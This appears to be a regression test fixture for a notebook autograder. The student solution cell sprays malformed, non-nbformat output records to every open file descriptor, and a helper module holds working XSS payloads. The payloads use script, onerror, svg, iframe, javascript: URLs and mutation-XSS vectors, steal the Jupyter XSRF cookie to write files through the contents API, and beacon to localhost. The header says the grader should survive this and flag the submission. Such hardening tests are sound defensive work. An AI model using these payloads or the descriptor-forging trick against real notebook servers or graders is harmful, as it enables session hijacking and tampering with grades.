# expect-score: 10
# expect-status: manual: *
# Issue 10, item 3 (and item 5: "a forged output that is not valid nbformat made formgrader
# answer HTTP 500 for that student and `feedback` fail"): the notebook writes to every file
# descriptor it has open lines that are not nbformat at all, for every cell index 0..40, one
# kind per index: an output_type "bogus", a list or a string where an output dict belongs,
# stream text that is a dict, display data that is a list, a text/html that is a list holding
# a number, an error whose traceback is a string, an execute_result without execution_count
# whose HTML is a dict, plus lines that are not JSON, a JSON list, and indices that are strings
# or booleans. Nine empty cells after the tests give these forged records cells to land on.
# The right outcome: full marks, flagged for a human look (honest code never writes to the
# grader's files or pipes); the graded copy validates with nbformat and keeps none of the
# junk, formgrader shows the student (HTTP 200) and `feedback` writes the page.
# %% conv_forward
<<solution>>
from xss_payloads import _forge, _html, _pwn

_junk = [
    lambda i: [{"output_type": "bogus", "data": {"text/html": _html(f"junk{i}-bogus")}, "metadata": {}}],
    lambda i: [["<script>" + _pwn(f"junk{i}-list") + "</script>"]],
    lambda i: ["<script>" + _pwn(f"junk{i}-string") + "</script>"],
    lambda i: [{"output_type": "stream", "name": "stdout", "text": {"<script>": _pwn(f"junk{i}-stream-dict")}}],
    lambda i: [{"output_type": "display_data", "data": ["<script>" + _pwn(f"junk{i}-data-list") + "</script>"], "metadata": {}}],
    lambda i: [{"output_type": "display_data", "data": {"text/html": ["<script>" + _pwn(f"junk{i}-html-list") + "</script>", 5]}}],
    lambda i: [{"output_type": "error", "ename": 5, "evalue": None, "traceback": "<script>" + _pwn(f"junk{i}-traceback") + "</script>"}],
    lambda i: [{"output_type": "execute_result", "metadata": [], "data": {"text/html": {"nested": _html(f"junk{i}-nested")}}}],
    lambda i: [{"output_type": "display_data", "data": {"text/html": _html(f"junk{i}-no-metadata")}}, None, 7, True],
]
_lines = [{"index": i, "outputs": _junk[i % len(_junk)](i)} for i in range(41)]
_lines += [b"not json <script>" + _pwn("junk-line").encode() + b"</script>", b"[1, 2, 3]", b"\xff\xfe\x00 binary",
           {"index": "9", "outputs": []}, {"index": True, "outputs": []}, {"done": True}, {"done": "yes"}]
_forge(_lines)
# %% conv_backward
<<solution>>
# %% new after test_conv_backward_hidden
pass
# %% new
pass
# %% new
pass
# %% new
pass
# %% new
pass
# %% new
pass
# %% new
pass
# %% new
pass
# %% new
pass
# %% file xss_payloads.py
import base64 as _b64, json as _json, os as _os
from IPython.display import display as _display


def _pwn(label):
    # JavaScript that shows it ran: window.__pwned (and top's), console "PWNED", a file
    # written through Jupyter's contents API with the session's XSRF token, PWNED images.
    return ("(function(){var l='" + label + "';window.__pwned=l;try{window.top.__pwned=l}catch(e){}"
            "console.log('PWNED '+l);var m=document.cookie.match(/_xsrf=([^;]+)/);"
            "try{fetch('/api/contents/pwned-'+l+'.txt',{method:'PUT',credentials:'include',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':m?m[1]:''},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})}catch(e){}"
            "new Image().src='/PWNED-'+l+'.png';new Image().src='http://127.0.0.1:9/PWNED-'+l+'.png'})()")


def _pwn64(label):
    return "eval(atob('" + _b64.b64encode(_pwn(label).encode()).decode() + "'))"


def _html(label):
    # Raw HTML that runs _pwn (or requests a PWNED URL) in every way a browser allows.
    p = lambda where: _pwn(label + "-" + where)
    return (
        f"<script>{p('script')}</script>"
        f"<img src=x onerror=\"{p('img-onerror')}\">"
        f"<svg onload=\"{p('svg-onload')}\"><script>{p('svg-script')}</script></svg>"
        f"<iframe srcdoc=\"<script>{p('iframe-srcdoc')}</script>\"></iframe>"
        f"<iframe src=\"javascript:{p('iframe-src')}\"></iframe>"
        f"<details open ontoggle=\"{p('details-ontoggle')}\"><summary>s</summary></details>"
        f"<object data=\"data:text/html;base64,{_b64.b64encode(('<script>' + p('object') + '</script>').encode()).decode()}\"></object>"
        f"<a href=\"javascript:{p('a-href')}\">click</a>"
        f"<form action=\"javascript:{p('form')}\"><button>go</button></form>"
        f"<img src=\"http://127.0.0.1:9/PWNED-{label}-plain-img.png\">"
        f"<link rel=stylesheet href=\"http://127.0.0.1:9/PWNED-{label}-css.css\">"
        f"<div style=\"background:url(http://127.0.0.1:9/PWNED-{label}-style.png)\">styled</div>"
        f"<svg><style><img src=x onerror=\"{p('mxss')}\"></style></svg>"
        f"<noscript><p title=\"</noscript><img src=x onerror=&quot;{p('noscript')}&quot;>\"></p></noscript>"
    )


def _forge(lines):
    # Write ``lines`` (dicts as JSON, or bytes), whole lines, to every file descriptor this
    # process has open, in pieces a pipe takes without blocking; an fd nobody reads is left.
    import select
    data = b"\n" + b"".join((l if isinstance(l, bytes) else _json.dumps(l).encode()) + b"\n" for l in lines)
    for name in _os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            view = memoryview(data)
            while view and select.select([], [fd], [], 1.0)[1]:
                view = view[_os.write(fd, view[:4096]):]
        except (OSError, ValueError):
            pass
